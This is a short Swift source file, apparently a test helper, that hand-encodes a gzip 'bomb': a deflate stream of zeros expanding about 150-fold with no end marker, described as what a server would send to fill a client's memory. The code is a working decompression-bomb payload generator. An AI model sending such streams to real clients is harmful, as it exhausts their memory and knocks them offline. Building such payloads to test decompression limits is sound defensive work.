/// Zeros in the gzip format, packed a hundred and fifty times: what a server would send to fill a client's memory.
enum GzipBomb {
    /// About `count` zeros (a multiple of 258).
    static func zeros(_ count: Int) -> [UInt8] {
        var bits = Bits()
        bits.append(0b011, count: 3)  // RFC 1951 3.2.3: the last block, with fixed codes
        bits.append(0b0000_1100, count: 8)  // the literal 0, whose code is 00110000, its highest bit first
        for _ in 0..<(count / 258) {
            bits.append(0b1010_0011, count: 8)  // 285, whose code is 11000101: a length of 258
            bits.append(0, count: 5)  // from one byte before
        }
        return [0x1F, 0x8B, 8, 0, 0, 0, 0, 0, 0, 255] + bits.bytes  // an end is never reached
    }

    private struct Bits {
        var bytes: [UInt8] = []
        private var pending = 0
        private var count = 0

        mutating func append(_ value: Int, count more: Int) {
            pending |= value << count
            count += more
            while count >= 8 {
                bytes.append(UInt8(truncatingIfNeeded: pending))
                pending >>= 8
                count -= 8
            }
        }
    }
}
